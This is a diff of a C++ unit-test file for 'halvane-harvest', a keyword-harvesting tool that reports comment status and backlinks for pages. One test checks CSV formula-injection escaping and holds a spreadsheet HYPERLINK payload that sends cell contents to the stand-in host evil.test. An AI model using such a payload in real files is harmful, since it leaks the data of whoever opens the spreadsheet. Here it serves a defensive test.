@@ -1,6 +1,8 @@
 // halvane-harvest's command line, its output files and exit codes, against
 // in-memory sources.
 #include <gtest/gtest.h>
+#include <sys/stat.h>
+#include <unistd.h>
 
 #include <filesystem>
 #include <fstream>
@@ -76,21 +78,110 @@ TEST(HarvestArguments, ReadsKeywordsOneALine) {
   fs::remove(file);
 }
 
+TEST(HarvestArguments, AKeywordsFileIsARegularFileOfBoundedSizeWithComments) {
+  EXPECT_EQ(KeywordsFromText("# garden\nblue widgets\n  # not this\n\nred #1\n"),
+            (std::vector<std::string>{"blue widgets", "red #1"}));
+  const fs::path folder = fs::temp_directory_path() / "halvane-keywords-files";
+  fs::remove_all(folder);
+  fs::create_directories(folder);
+  ASSERT_EQ(mkfifo((folder / "fifo").c_str(), 0600), 0);
+  std::ofstream(folder / "big").close();
+  fs::resize_file(folder / "big", kMaxKeywordsFileBytes + 1);
+  const std::vector<std::pair<std::string, std::string>> cases = {
+      {(folder / "fifo").string(), ": not a regular file (a FIFO)"},
+      {"/dev/zero", ": not a regular file (a character device)"},
+      {folder.string(), ": not a regular file (a folder)"},
+      {(folder / "big").string(), ": larger than 16 MB, the most this file may hold"},
+  };
+  for (const auto& [path, reason] : cases) {
+    std::string error;
+    EXPECT_FALSE(ParseHarvestArguments({"--keywords", path}, error)) << path;
+    EXPECT_EQ(error, "cannot read keywords file " + path + reason);
+  }
+  fs::remove_all(folder);
+}
+
+TLiveResult Result(std::string keyword, std::optional<int> authority, std::string url, bool open,
+                   std::optional<std::string> anchor, std::optional<std::uint32_t> rank) {
+  TLiveResult result;
+  result.Keyword = std::move(keyword);
+  result.AuthorityAwaited = false;
+  result.Authority = authority;
+  result.Url = std::move(url);
+  result.CommentsOpen = open;
+  result.HasYourLink = anchor.has_value();
+  result.Anchor = std::move(anchor);
+  result.TrafficRank = rank;
+  return result;
+}
+
 TEST(LiveOutput, WritesCsvAndJsonByteForByte) {
-  TLiveTable table = HarvestTable(true);
-  table.Rows.push_back({"a \"b\"", "3", "https://x.org/1", "Open", "Yes", "Say, \"hi\"", "12,345"});
-  table.Rows.push_back({"k", "-", "http://y.org/", "Closed", "No", "-", "-"});
+  TLiveTable table;
+  table.WithKeyword = true;
+  table.Results.push_back(Result("a \"b\"", 3, "https://x.org/1", true, "Say, \"hi\"", 12345));
+  table.Results.back().CommentLinks = pagetest::TCommentLinks::Followed;
+  table.Results.push_back(Result("k", std::nullopt, "http://y.org/", false, std::nullopt, std::nullopt));
   EXPECT_EQ(LiveCsvText(table),
-            "\"Keyword\",\"Authority\",\"URL\",\"Comments\",\"Has Your Link\",\"Anchor Name\",\"Traffic Rank\"\r\n"
-            "\"a \"\"b\"\"\",\"3\",\"https://x.org/1\",\"Open\",\"Yes\",\"Say, \"\"hi\"\"\",\"12,345\"\r\n"
-            "\"k\",\"-\",\"http://y.org/\",\"Closed\",\"No\",\"-\",\"-\"\r\n");
-  table.Rows.resize(1);
-  table.Rows[0][5] = "bad \xff byte";
+            "\"Keyword\",\"Authority\",\"URL\",\"Comments\",\"Comment Links\",\"Has Your Link\",\"Anchor Name\",\"Traffic Rank\"\r\n"
+            "\"a \"\"b\"\"\",\"3\",\"https://x.org/1\",\"Open\",\"Followed\",\"Yes\",\"Say, \"\"hi\"\"\",\"12,345\"\r\n"
+            "\"k\",\"-\",\"http://y.org/\",\"Closed\",\"None yet\",\"No\",\"-\",\"-\"\r\n");
+  table.Results[0].Anchor = "bad \xff byte";
   EXPECT_EQ(LiveJsonText(table),
-            "[\n  {\n    \"Keyword\": \"a \\\"b\\\"\",\n    \"Authority\": \"3\",\n"
-            "    \"URL\": \"https://x.org/1\",\n    \"Comments\": \"Open\",\n    \"Has Your Link\": \"Yes\",\n"
-            "    \"Anchor Name\": \"bad \xEF\xBF\xBD byte\",\n    \"Traffic Rank\": \"12,345\"\n  }\n]\n");
-  EXPECT_EQ(LiveJsonText(HarvestTable(false)), "[]\n");
+            "[\n  {\n    \"keyword\": \"a \\\"b\\\"\",\n    \"authority\": 3,\n"
+            "    \"url\": \"https://x.org/1\",\n    \"comments\": \"open\",\n    \"comment_links\": \"followed\",\n    \"has_your_link\": true,\n"
+            "    \"anchor\": \"bad \xEF\xBF\xBD byte\",\n    \"traffic_rank\": 12345\n  },\n"
+            "  {\n    \"keyword\": \"k\",\n    \"authority\": null,\n    \"url\": \"http://y.org/\",\n"
+            "    \"comments\": \"closed\",\n    \"comment_links\": \"none\",\n    \"has_your_link\": false,\n    \"anchor\": null,\n"
+            "    \"traffic_rank\": null\n  }\n]\n");
+  EXPECT_EQ(LiveJsonText(TLiveTable{}), "[]\n");
+}
+
+// The column table decides text, order and JSON alike: numbers sort as
+// numbers (unknown as 0), an awaited authority is an empty cell, and an
+// anchor shows only with the user's link.
+TEST(LiveColumns, CellsAndOrderComeFromTheFigures) {
+  TLiveResult high = Result("k", 10, "https://a.org/", true, std::nullopt, 1000000);
+  TLiveResult low = Result("k", 9, "https://b.org/", true, std::nullopt, 999);
+  const auto bytes = [](std::string_view a, std::string_view b) { return a.compare(b); };
+  EXPECT_GT(CompareLiveResults(high, low, kLiveAuthority, bytes), 0);
+  EXPECT_GT(CompareLiveResults(high, low, kLiveTrafficRank, bytes), 0);
+  EXPECT_LT(CompareLiveResults(high, low, kLiveUrl, bytes), 0);
+  low.Authority.reset();
+  EXPECT_GT(CompareLiveResults(high, low, kLiveAuthority, bytes), 0);
+  EXPECT_EQ(LiveCellText(high, kLiveTrafficRank), "1,000,000");
+  TLiveResult waiting;
+  EXPECT_EQ(LiveCellText(waiting, kLiveAuthority), "");
+  waiting.AuthorityAwaited = false;
+  EXPECT_EQ(LiveCellText(waiting, kLiveAuthority), "-");
+  waiting.Anchor = "text without the link";
+  EXPECT_EQ(LiveCellText(waiting, kLiveAnchorName), "-");
+  EXPECT_EQ(LiveCellText(waiting, kLiveColumnCount), "");
+}
+
+TEST(LiveOutput, CsvCellsThatASpreadsheetWouldRunAreQuoted) {
+  TLiveTable table;
+  table.Results.push_back(
+      Result("k", std::nullopt, "https://x.org/", true, "=HYPERLINK(\"http://evil.test/?leak=\"&A1,\"x\")", std::nullopt));
+  for (const char* anchor : {"+1", "-2", "@SUM(A1)", "\tx", "\rx", "a=b"}) {
+    table.Results.push_back(Result("k", 3, "https://x.org/", false, anchor, std::nullopt));
+  }
+  EXPECT_EQ(LiveCsvText(table),
+            "\"Authority\",\"URL\",\"Comments\",\"Comment Links\",\"Has Your Link\",\"Anchor Name\",\"Traffic Rank\"\r\n"
+            "\"-\",\"https://x.org/\",\"Open\",\"None yet\",\"Yes\",\"'=HYPERLINK(\"\"http://evil.test/?leak=\"\"&A1,\"\"x\"\")\",\"-\"\r\n"
+            "\"3\",\"https://x.org/\",\"Closed\",\"None yet\",\"Yes\",\"'+1\",\"-\"\r\n"
+            "\"3\",\"https://x.org/\",\"Closed\",\"None yet\",\"Yes\",\"'-2\",\"-\"\r\n"
+            "\"3\",\"https://x.org/\",\"Closed\",\"None yet\",\"Yes\",\"'@SUM(A1)\",\"-\"\r\n"
+            "\"3\",\"https://x.org/\",\"Closed\",\"None yet\",\"Yes\",\"'\tx\",\"-\"\r\n"
+            "\"3\",\"https://x.org/\",\"Closed\",\"None yet\",\"Yes\",\"'\rx\",\"-\"\r\n"
+            "\"3\",\"https://x.org/\",\"Closed\",\"None yet\",\"Yes\",\"a=b\",\"-\"\r\n");
+  // The keyword and the address are the user's and the engine's: the same rule.
+  table.WithKeyword = true;
+  table.Results = {Result("-k", std::nullopt, "=x", true, std::nullopt, std::nullopt)};
+  EXPECT_EQ(LiveCsvText(table).substr(LiveCsvText(table).find("\r\n") + 2),
+            "\"'-k\",\"-\",\"'=x\",\"Open\",\"None yet\",\"No\",\"-\",\"-\"\r\n");
+  // The report's addresses come from the search engine and the pages.
+  EXPECT_EQ(PageReportText({{"k", "=a", "@b", "failed: -"}}, false),
+            "\"Address\",\"Final Address\",\"Result\"\r\n\"'=a\",\"'@b\",\"failed: -\"\r\n");
 }
 
 // Sources for halvane-harvest: three pages for any keyword; the second links
@@ -133,10 +224,10 @@ std::string ReadFile(const fs::path& path) {
 }
 
 const std::string kHeader =
-    "\"Authority\",\"URL\",\"Comments\",\"Has Your Link\",\"Anchor Name\",\"Traffic Rank\"\r\n";
-const std::string kRow1 = "\"4\",\"https://a.example.org/1\",\"Open\",\"No\",\"-\",\"-\"\r\n";
-const std::string kRow2 = "\"7\",\"https://b.example.net/2\",\"Open\",\"Yes\",\"mine\",\"1,234\"\r\n";
-const std::string kRow3 = "\"-\",\"https://c.example.com/3\",\"Open\",\"No\",\"-\",\"-\"\r\n";
+    "\"Authority\",\"URL\",\"Comments\",\"Comment Links\",\"Has Your Link\",\"Anchor Name\",\"Traffic Rank\"\r\n";
+const std::string kRow1 = "\"4\",\"https://a.example.org/1\",\"Open\",\"None yet\",\"No\",\"-\",\"-\"\r\n";
+const std::string kRow2 = "\"7\",\"https://b.example.net/2\",\"Open\",\"None yet\",\"Yes\",\"mine\",\"1,234\"\r\n";
+const std::string kRow3 = "\"-\",\"https://c.example.com/3\",\"Open\",\"None yet\",\"No\",\"-\",\"-\"\r\n";
 
 TEST(HarvestCommand, OneKeywordWritesTheLiveCaptionsAndRowsAsCsv) {
   THarvestFixture fixture;
@@ -154,6 +245,22 @@ TEST(HarvestCommand, OneKeywordWritesTheLiveCaptionsAndRowsAsCsv) {
   fs::remove(file);
 }
 
+TEST(HarvestCommand, ReportSaysWhatBecameOfEveryAddress) {
+  THarvestFixture fixture;
+  const fs::path file = fs::temp_directory_path() / "halvane-harvest-report.csv";
+  THarvestOptions options = *Parse({"--keyword", "blue", "--report", file.string()});
+  EXPECT_EQ(fixture.Run(options), kHarvestFinished);
+  EXPECT_EQ(ReadFile(file),
+            "\"Address\",\"Final Address\",\"Result\"\r\n"
+            "\"https://a.example.org/1\",\"https://a.example.org/1\",\"kept\"\r\n"
+            "\"https://b.example.net/2\",\"https://b.example.net/2\",\"kept\"\r\n"
+            "\"https://c.example.com/3\",\"https://c.example.com/3\",\"kept\"\r\n");
+  fs::remove(file);
+  std::string error;
+  EXPECT_FALSE(ParseHarvestArguments({"--keyword", "x", "--report", ""}, error));
+  EXPECT_EQ(error, "--report needs a file name");
+}
+
 TEST(HarvestCommand, SeveralKeywordsGetAKeywordColumnOneAfterAnother) {
   THarvestFixture fixture;
   const fs::path file = fs::temp_directory_path() / "halvane-harvest-test.json";
@@ -162,14 +269,14 @@ TEST(HarvestCommand, SeveralKeywordsGetAKeywordColumnOneAfterAnother) {
   EXPECT_EQ(fixture.Run(options), kHarvestFinished);
   EXPECT_EQ(fixture.Harvest->Starts.load(), 2);
   const std::string text = ReadFile(file);
-  EXPECT_EQ(text.substr(0, 28), "[\n  {\n    \"Keyword\": \"red\",\n");
-  EXPECT_LT(text.find("\"Keyword\": \"red\""), text.find("\"Keyword\": \"green\""));
+  EXPECT_EQ(text.substr(0, 28), "[\n  {\n    \"keyword\": \"red\",\n");
+  EXPECT_LT(text.find("\"keyword\": \"red\""), text.find("\"keyword\": \"green\""));
   std::size_t objects = 0;
-  for (std::size_t at = text.find("\"Keyword\""); at != std::string::npos; at = text.find("\"Keyword\"", at + 1)) {
+  for (std::size_t at = text.find("\"keyword\""); at != std::string::npos; at = text.find("\"keyword\"", at + 1)) {
     ++objects;
   }
   EXPECT_EQ(objects, 6u);
-  EXPECT_EQ(text.find("\"Anchor Name\": \"Mine\""), std::string::npos);  // no user domain given
+  EXPECT_EQ(text.find("\"anchor\": \"Mine\""), std::string::npos);  // no user domain given
   EXPECT_TRUE(fixture.Err.str().empty()) << fixture.Err.str();
   fs::remove(file);
 }
@@ -181,15 +288,68 @@ TEST(HarvestCommand, AFailedSourceExitsOneWithTheReasonAndKeepsTheRows) {
   EXPECT_EQ(fixture.Run(options), kHarvestSourceFailed);
   EXPECT_EQ(fixture.Err.str(), "halvane-harvest: FakeRank at rank.test failed on its side (HTTP 500)\n");
   EXPECT_EQ(fixture.Out.str(),
-            kHeader + "\"-\",\"https://a.example.org/1\",\"Open\",\"No\",\"-\",\"-\"\r\n"
-                      "\"-\",\"https://b.example.net/2\",\"Open\",\"No\",\"-\",\"1,234\"\r\n" + kRow3);
+            kHeader + "\"-\",\"https://a.example.org/1\",\"Open\",\"None yet\",\"No\",\"-\",\"-\"\r\n"
+                      "\"-\",\"https://b.example.net/2\",\"Open\",\"None yet\",\"No\",\"-\",\"1,234\"\r\n" + kRow3);
 }
 
-TEST(HarvestCommand, AnOutputThatCannotBeWrittenExitsOne) {
+TEST(HarvestCommand, AnOutputThatCannotBeWrittenIsRefusedBeforeTheRun) {
+  const fs::path folder = fs::temp_directory_path() / "halvane-harvest-outputs";
+  fs::remove_all(folder);
+  fs::create_directories(folder / "sub");
+  std::ofstream(folder / "file") << "x";
+  ASSERT_EQ(mkfifo((folder / "fifo").c_str(), 0600), 0);
+  const std::vector<std::pair<std::string, std::string>> cases = {
+      {"/nonexistent/folder/out.csv", "no such folder /nonexistent/folder"},
+      {(folder / "sub").string(), "it is a folder"},
+      {(folder / "fifo").string(), "it is not a regular file (a FIFO, a device or a socket)"},
+      {(folder / "file" / "out.csv").string(), (folder / "file").string() + " is not a folder"},
+  };
+  for (const auto& [path, reason] : cases) {
+    THarvestFixture fixture;
+    const THarvestOptions options = *Parse({"--keyword", "b", "--csv", path, "--quiet"});
+    EXPECT_EQ(fixture.Run(options), kHarvestBadArguments) << path;
+    EXPECT_EQ(fixture.Err.str(), "halvane-harvest: cannot write " + path + ": " + reason + "\n");
+    EXPECT_EQ(fixture.Harvest->Starts.load(), 0) << path;
+  }
+  if (geteuid() != 0) {  // root writes anywhere
+    fs::permissions(folder / "sub", fs::perms::owner_read | fs::perms::owner_exec);
+    THarvestFixture fixture;
+    const std::string path = (folder / "sub" / "out.csv").string();
+    EXPECT_EQ(fixture.Run(*Parse({"--keyword", "b", "--csv", path, "--quiet"})), kHarvestBadArguments);
+    EXPECT_EQ(fixture.Err.str(), "halvane-harvest: cannot write " + path + ": the folder " +
+                                     (folder / "sub").string() + " is not writable (Permission denied)\n");
+    fs::permissions(folder / "sub", fs::perms::owner_all);
+  }
+  fs::remove_all(folder);
+}
+
+TEST(HarvestCommand, AFailedWriteSaysTheSystemsReason) {
+  const fs::path folder = fs::temp_directory_path() / "halvane-harvest-vanishing";
+  fs::create_directories(folder);
   THarvestFixture fixture;
-  const THarvestOptions options = *Parse({"--keyword", "b", "--csv", "/nonexistent/folder/out.csv", "--quiet"});
-  EXPECT_EQ(fixture.Run(options), kHarvestSourceFailed);
-  EXPECT_EQ(fixture.Err.str(), "halvane-harvest: cannot write /nonexistent/folder/out.csv\n");
+  // The folder goes once the run has begun, after the check.
+  fixture.Harvest->OnStart = [folder] { fs::remove_all(folder); };
+  const std::string path = (folder / "out.csv").string();
+  EXPECT_EQ(fixture.Run(*Parse({"--keyword", "b", "--csv", path, "--quiet"})), kHarvestSourceFailed);
+  EXPECT_EQ(fixture.Err.str(), "halvane-harvest: cannot write " + path + ": No such file or directory\n");
+}
+
+TEST(HarvestCommand, ARunThatFailsBeforeAnyRowLeavesTheEarlierFile) {
+  const fs::path file = fs::temp_directory_path() / "halvane-harvest-earlier.csv";
+  std::ofstream(file, std::ios::binary) << "135 rows";
+  THarvestFixture fixture;
+  fixture.Harvest->Addresses.clear();
+  fixture.Harvest->Error = "FakeEngine at engine.test cannot be reached";
+  EXPECT_EQ(fixture.Run(*Parse({"--keyword", "b", "--csv", file.string(), "--quiet"})), kHarvestSourceFailed);
+  EXPECT_EQ(ReadFile(file), "135 rows");
+  EXPECT_EQ(fixture.Err.str(), "halvane-harvest: FakeEngine at engine.test cannot be reached\n"
+                               "halvane-harvest: " + file.string() + " not written: the run ended before it found a row\n");
+  // A run that finds nothing, and says nothing failed, writes its empty table.
+  THarvestFixture empty;
+  empty.Harvest->Addresses.clear();
+  EXPECT_EQ(empty.Run(*Parse({"--keyword", "b", "--csv", file.string(), "--quiet"})), kHarvestFinished);
+  EXPECT_EQ(ReadFile(file), kHeader);
+  fs::remove(file);
 }
 
 TEST(HarvestCommand, AnInterruptStopsAndWritesTheRowsSoFar) {
@@ -197,8 +357,10 @@ TEST(HarvestCommand, AnInterruptStopsAndWritesTheRowsSoFar) {
   THarvestOptions options = *Parse({"--keyword", "blue", "--quiet"});
   options.Keywords = {"red", "green"};
   std::atomic<bool> interrupted{false};
+  // Once both figures have been handed to the run (the third page never
+  // answers on its own).
   std::thread interrupter([&] {
-    std::this_thread::sleep_for(std::chrono::milliseconds(200));
+    fixture.Authority->WaitForAnswers(2);
     interrupted = true;
   });
   const auto before = std::chrono::steady_clock::now();
@@ -209,7 +371,7 @@ TEST(HarvestCommand, AnInterruptStopsAndWritesTheRowsSoFar) {
   EXPECT_EQ(fixture.Harvest->Starts.load(), 1);
   EXPECT_EQ(fixture.Out.str(),
             "\"Keyword\"," + kHeader + "\"red\"," + kRow1 + "\"red\"," +
-                "\"7\",\"https://b.example.net/2\",\"Open\",\"No\",\"-\",\"1,234\"\r\n");
+                "\"7\",\"https://b.example.net/2\",\"Open\",\"None yet\",\"No\",\"-\",\"1,234\"\r\n");
 }
 
 TEST(TProgressReport, DrawsTheBarFromTheCounts) {
